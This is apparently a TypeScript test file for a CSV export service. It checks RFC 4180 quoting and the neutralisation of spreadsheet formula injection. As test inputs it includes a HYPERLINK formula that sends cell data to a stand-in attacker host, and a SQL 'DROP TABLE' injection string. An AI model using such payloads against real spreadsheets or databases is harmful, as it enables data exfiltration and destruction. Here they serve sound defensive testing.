import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { UTF8_BOM, csvField, neutraliseFormula, toCsv } from '../../src-main/services/csv';

/** Reads RFC 4180 text back into rows of fields, as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let isQuoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text.charAt(i);
    if (isQuoted) {
      if (c === '"' && text.charAt(i + 1) === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') isQuoted = false;
      else field += c;
    } else if (c === '"') isQuoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text.charAt(i + 1) === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('The last record has no CRLF after it.');
  return rows;
}

/** Any text, often starting with a character that matters to a spreadsheet. */
const cellText = fc
  .tuple(
    fc.constantFrom('', '', '=', '+', '-', '@', '\t', '\r', '"', ',', '\n', "'"),
    fc.string({ unit: 'grapheme', maxLength: 30 }),
  )
  .map(([start, rest]) => start + rest);

describe('formula injection', () => {
  it.each([
    ['=1+1', "'=1+1"],
    [
      '=HYPERLINK("http://evil.invalid?"&A1,"Click")',
      '\'=HYPERLINK("http://evil.invalid?"&A1,"Click")',
    ],
    ['+1 for trying', "'+1 for trying"],
    ['-3 is how low it got', "'-3 is how low it got"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('text starting %j is shown as text', (text, shown) => {
    expect(neutraliseFormula(text)).toBe(shown);
    expect(parseCsv(toCsv(['Note'], [[text]]).slice(1))[1]).toEqual([shown]);
  });

  it('leaves ordinary text, and formula characters later in the text, alone', () => {
    for (const text of ['Calm', 'a=b', 'I felt +', ' =not first', '', '1-2']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('marks text that starts with the mark itself, so one mark is always dropped on reading', () => {
    // Without this, "'=x" typed in a note would read back as "=x".
    expect(neutraliseFormula("'already quoted")).toBe("''already quoted");
    expect(neutraliseFormula("'=x")).toBe("''=x");
  });

  it('never neutralises a number: a negative number in a number column stays a number', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(0)).toBe('0');
    expect(csvField(7.5)).toBe('7.5');
    expect(parseCsv(toCsv(['Change'], [[-3]]).slice(1))[1]).toEqual(['-3']);
  });

  it('neutralises text that only looks like a number: it was typed as text, and stays text', () => {
    expect(csvField('-3')).toBe("'-3");
  });

  it('refuses numbers a spreadsheet cannot hold', () => {
    expect(() => csvField(Number.NaN)).toThrow(/finite/);
    expect(() => csvField(Infinity)).toThrow(/finite/);
  });

  it('no text cell a spreadsheet reads back starts a formula, whatever was typed', () => {
    fc.assert(
      fc.property(fc.array(cellText, { minLength: 1, maxLength: 6 }), (texts) => {
        const rows = parseCsv(
          toCsv(
            texts.map((_, i) => `C${i}`),
            [texts],
          ).slice(1),
        );
        const cells = rows[1] ?? [];
        expect(cells).toHaveLength(texts.length);
        cells.forEach((cell, i) => {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          // The leading apostrophe is the only change: where a formula could start, or where the
          // text starts with the mark itself (so one mark is always dropped on reading).
          const text = texts[i] ?? '';
          expect(cell).toBe(/^[=+\-@\t\r']/.test(text) ? `'${text}` : text);
        });
      }),
      { numRuns: 1000 },
    );
  });
});

describe('RFC 4180 quoting', () => {
  it('quotes fields with commas, quotes or line breaks, and doubles the quotes', () => {
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('one\ntwo')).toBe('"one\ntwo"');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvField('plain')).toBe('plain');
    expect(csvField(null)).toBe('');
  });

  it('starts with a byte-order mark and ends every record, the last too, with CRLF', () => {
    const text = toCsv(
      ['Date', 'Mood'],
      [
        ['2024-02-29', 5],
        ['2024-03-01', null],
      ],
    );
    expect(text).toBe(`${UTF8_BOM}Date,Mood\r\n2024-02-29,5\r\n2024-03-01,\r\n`);
  });

  it('keeps emoji, right-to-left text and SQL exactly', () => {
    const texts = ['👨‍👩‍👧‍👦', 'مرحبا بالعالم', "Robert'); DROP TABLE mood_entries;--"];
    expect(parseCsv(toCsv(['A', 'B', 'C'], [texts]).slice(1))[1]).toEqual(texts);
  });

  it('refuses a row that does not match the header, rather than shift cells under the wrong heading', () => {
    expect(() => toCsv(['A', 'B'], [['only one']])).toThrow(/1 cells; the header has 2/);
  });
});
